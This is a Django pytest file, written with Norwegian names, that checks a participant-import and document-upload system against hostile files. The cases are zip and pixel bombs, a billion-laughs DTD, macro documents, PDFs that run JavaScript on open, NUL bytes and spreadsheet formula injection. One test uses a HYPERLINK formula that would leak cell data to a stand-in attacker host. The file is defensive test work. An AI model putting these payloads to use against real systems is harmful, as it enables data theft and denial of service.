"""Hostile and careless files (issue 15, items 1 and 8): each attack is replayed through the real
views; the server answers with a Norwegian message (next to the field, or on the row), stores
nothing, and what was stored before is untouched. Time and memory: bench/fiendtlig.py."""

from __future__ import annotations

import datetime
import io
import random

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from deltakere.models import Deltaker, Vedlegg
from fagbrev.demo import lag_fodselsnummer
from fagbrev.regneark import trygg_celle
from fagbrev.tests.filer import lag_docx, lag_jpeg, lag_pdf, lag_png

from . import lag


def _fnr(n: int) -> str:
    return lag_fodselsnummer(datetime.date(1980 + n, 1 + n % 12, 1 + n % 27), random.Random(n))


def _gode(antall: int = 2) -> list[list[str]]:
    return [[f"Navn{i}", "Testesen", _fnr(i), "BUA", "40000000", f"navn{i}@example.no"] for i in range(antall)]


@pytest.fixture
def innlogget(client, koordinator, fagretning, deltaker):
    """The coordinator, logged in, with one participant already on file (who must stay as she is)."""
    client.force_login(koordinator)
    return client


def _importer(client, innhold: bytes, navn: str):
    return client.post("/deltakere/import/", {"fil": SimpleUploadedFile(navn, innhold)})


def _uendret(deltaker) -> None:
    assert Deltaker.objects.count() == 1
    lagret = Deltaker.objects.get()
    assert (lagret.pk, lagret.fornavn, lagret.etternavn, lagret.versjon) == (
        deltaker.pk,
        deltaker.fornavn,
        deltaker.etternavn,
        deltaker.versjon,
    )


def _feltfeil(svar) -> str:
    """The error text shown next to the file field (crispy renders it as invalid-feedback)."""
    html = svar.content.decode()
    assert svar.status_code == 200
    assert "invalid-feedback" in html or "is-invalid" in html, html[:2000]
    return html


# --- item 1: the bounded spreadsheet reader ---------------------------------------------------


def test_a_declared_dimension_of_a_whole_sheet_is_ignored_and_the_real_rows_are_read(innlogget, deltaker):
    svar = _importer(innlogget, lag.xlsx_deklarert_dimensjon(_gode(2)), "liste.xlsx")
    html = svar.content.decode()
    assert svar.status_code == 200 and "Prøvekjøring" in html and "2 rader: 2 gyldige" in html
    _uendret(deltaker)


@pytest.mark.parametrize(
    ("lag_fil", "melding"),
    [
        (lag.xlsx_celle_langt_ute, "verdier i mer enn 50 kolonner"),
        (lag.xlsx_rad_langt_nede, "tomme rader"),
        (lag.xlsx_bred_rad, "mer enn 60\u00a0000 celler"),
        (lag.xlsx_for_mange_rader, "mer enn 2\u00a0000 rader"),
        (lambda: lag.xlsx_nuller(512), "pakker seg ut til mer enn 20 MB"),
        (lag.xlsx_loyer_om_storrelse, "er skadet"),
        (lag.xlsx_milliard_latter, "DTD"),
    ],
    ids=["kolonne_xfd", "rad_1048576", "200000_celler", "2500_rader", "512_mb_nuller", "logner_om_storrelse", "latter"],
)
def test_a_spreadsheet_past_a_limit_is_refused_next_to_the_field_in_the_dry_run(innlogget, deltaker, lag_fil, melding):
    html = _feltfeil(_importer(innlogget, lag_fil(), "liste.xlsx"))
    assert melding in html
    assert "Prøvekjøring" not in html
    _uendret(deltaker)
    assert innlogget.post("/deltakere/import/", {"handling": "alle"}).status_code == 302  # nothing waiting
    _uendret(deltaker)


def test_a_csv_with_too_many_rows_is_refused_before_it_is_planned(innlogget, deltaker):
    html = _feltfeil(_importer(innlogget, lag.csv_fra(_gode(1) * 2_001), "liste.csv"))
    assert "mer enn 2\u00a0000 rader" in html
    _uendret(deltaker)


# --- item 8: careless CSV cells -------------------------------------------------------------------


@pytest.mark.parametrize("kolonne", [0, 5])
def test_a_nul_byte_in_a_csv_is_an_error_on_its_row_in_the_preview_and_the_dry_run(innlogget, deltaker, kolonne):
    rader = _gode(3)
    rader[1][kolonne] = rader[1][kolonne][:2] + "\x00" + rader[1][kolonne][2:]
    svar = _importer(innlogget, lag.csv_fra(rader), "liste.csv")
    html = svar.content.decode()
    assert svar.status_code == 200 and "3 rader: 2 gyldige, 1 med feil" in html
    assert "ugyldig kontrolltegn (for eksempel en NUL-byte)" in html
    assert innlogget.post("/deltakere/import/", {"handling": "alle"}).status_code == 200  # refused: bad rows
    assert Deltaker.objects.count() == 1
    assert innlogget.post("/deltakere/import/", {"handling": "gyldige"}).status_code == 302
    assert Deltaker.objects.count() == 3
    assert not [d for d in Deltaker.objects.all() if "\x00" in f"{d.fornavn}{d.etternavn}{d.epost}"]


def test_a_nul_byte_in_a_column_the_import_does_not_use_is_still_reported(innlogget, deltaker):
    innhold = f"Fornavn;Etternavn;Fødselsnummer;Fagretning;Merknad\nA;B;{_fnr(9)};BUA;ok\x00ikke\n"
    html = _importer(innlogget, innhold.encode(), "liste.csv").content.decode()
    assert "Kolonne «Merknad» inneholder et ugyldig kontrolltegn" in html and "1 med feil" in html


def test_invalid_email_addresses_are_refused_as_the_registration_form_refuses_them(innlogget, deltaker):
    rader = _gode(3)
    rader[0][5] = "ikke-en-adresse"
    rader[2][5] = "a@b"
    html = _importer(innlogget, lag.csv_fra(rader), "liste.csv").content.decode()
    assert html.count("E-post: Oppgi en gyldig e-postadresse") == 2 and "1 gyldige" in html
    innlogget.post("/deltakere/import/", {"handling": "gyldige"})
    assert set(Deltaker.objects.exclude(pk=deltaker.pk).values_list("epost", flat=True)) == {"navn1@example.no"}


def test_an_overlong_name_is_an_error_on_its_row_not_silently_cut(innlogget, deltaker):
    rader = _gode(1)
    rader[0][0] = "A" * 150
    html = _importer(innlogget, lag.csv_fra(rader), "liste.csv").content.decode()
    assert "Fornavn: Sørg for at denne verdien har 100 eller færre tegn (den har nå 150)." in html


# --- item 8: formulas never leave in an export --------------------------------------------------


@pytest.mark.parametrize("farlig", ['=HYPERLINK("http://x","klikk")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_the_safe_cell_writes_formula_text_as_text(farlig):
    trygg = trygg_celle(farlig)
    assert trygg.startswith("'") and trygg[1:] == farlig
    assert trygg_celle(-5) == -5 and trygg_celle("Kari") == "Kari" and trygg_celle("a\x00b\x1f") == "ab"


def test_a_track_named_as_a_formula_is_text_in_the_semester_and_annual_excel(client, koordinator, fagretning):
    fagretning.navn = '=HYPERLINK("http://angriper.example/?"&A1,"Klikk")'
    fagretning.save()
    client.force_login(koordinator)
    for url in ("/rapporter/styringsgruppe/excel/", "/rapporter/arsrapport/excel/"):
        svar = client.get(url)
        assert svar.status_code == 200
        bok = openpyxl.load_workbook(io.BytesIO(svar.content))
        celler = [c for ark in bok.worksheets for rad in ark.iter_rows() for c in rad if c.value is not None]
        assert not [c.coordinate for c in celler if c.data_type == "f"]
        assert not [c.value for c in celler if isinstance(c.value, str) and c.value.startswith(lag_formel())]


def lag_formel() -> tuple[str, ...]:
    return ("=", "+", "-", "@", "\t", "\r")


# --- item 8: uploads must be what they claim ----------------------------------------------------


def _last_opp(client, deltaker, navn: str, innhold: bytes):
    return client.post(
        f"/deltakere/{deltaker.pk}/dokumenter/",
        {"dok-type": "cv", "dok-fil": SimpleUploadedFile(navn, innhold, content_type="application/pdf")},
    )


@pytest.fixture
def med_dokument(innlogget, deltaker, koordinator):
    """One good CV on file before the attacks: it must survive them."""
    from deltakere import services

    return services.dokument_last_opp(
        deltaker=deltaker, fil=SimpleUploadedFile("cv.pdf", lag_pdf()), type="cv", utfort_av=koordinator
    )


@pytest.mark.parametrize(
    ("navn", "innhold", "melding"),
    [
        ("cv.html", lag.HTML_SOM_PDF, "kan ikke åpnes som PDF"),
        *[(f"{n}.pdf", pdf, "PDF-en inneholder") for n, pdf in lag.PDF_ANGREP.items()],
        ("cv.docx", None, "pakker seg ut til mer enn 100 MB"),
        ("cv.docx", lag.docx_makro(), "makroer"),
        ("bilde.png", lag.png_pikselbombe(), "megapiksler"),
        ("cv.exe", b"MZ\x90\x00" + bytes(60), "ikke en PDF, JPEG, PNG eller Word (DOCX)-fil"),
    ],
    ids=["html_som_pdf", *lag.PDF_ANGREP, "docx_200_mb", "docx_makro", "png_10_gigapiksler", "exe"],
)
def test_a_hostile_upload_is_refused_with_a_message_and_nothing_is_stored(
    innlogget, deltaker, med_dokument, navn, innhold, melding
):
    innhold = lag.docx_oppblast(200) if innhold is None else innhold
    svar = _last_opp(innlogget, deltaker, navn, innhold)
    html = svar.content.decode()
    assert svar.status_code == 200 and melding in html, html[html.find("invalid-feedback") - 200 :][:1500]
    assert list(Vedlegg.objects.values_list("pk", flat=True)) == [med_dokument.pk]
    with med_dokument.fil.open("rb") as f:
        assert f.read() == lag_pdf()


@pytest.mark.parametrize(
    ("navn", "innhold", "endelse"),
    [("cv.html", lag_pdf(), ".pdf"), ("bilde", lag_png(), ".png"), ("foto.pdf", lag_jpeg(), ".jpg")],
)
def test_a_good_file_is_stored_and_served_with_the_ending_of_its_content(innlogget, deltaker, navn, innhold, endelse):
    assert _last_opp(innlogget, deltaker, navn, innhold).status_code == 302
    dokument = Vedlegg.objects.get()
    svar = innlogget.get(f"/deltakere/dokument/{dokument.pk}/")
    assert svar.status_code == 200 and f'{navn.rsplit(".", 1)[0]}{endelse}"' in svar["Content-Disposition"]
    assert svar["X-Content-Type-Options"] == "nosniff"


def test_a_word_file_and_a_pdf_with_a_view_to_open_at_are_accepted(innlogget, deltaker):
    assert _last_opp(innlogget, deltaker, "cv.docx", lag_docx()).status_code == 302
    assert _last_opp(innlogget, deltaker, "cv.pdf", lag_pdf(katalog="/OpenAction [3 0 R /Fit]")).status_code == 302
    assert Vedlegg.objects.count() == 2


@pytest.mark.parametrize("innhold", [lag.HTML_SOM_PDF, lag.PDF_ANGREP["javascript_ved_apning"]])
def test_a_signed_scan_is_checked_the_same_way(client, koordinator, deltaker, innhold):
    from dokumenter import services

    dokument = services.dokument_lag(type="kontrakt", deltaker=deltaker, utfort_av=koordinator)
    client.force_login(koordinator)
    svar = client.post(f"/dokumenter/{dokument.pk}/skann/", {"fil": SimpleUploadedFile("s.pdf", innhold)})
    assert svar.status_code == 200 and "PDF" in svar.content.decode()
    dokument.refresh_from_db()
    assert not dokument.signert_skann
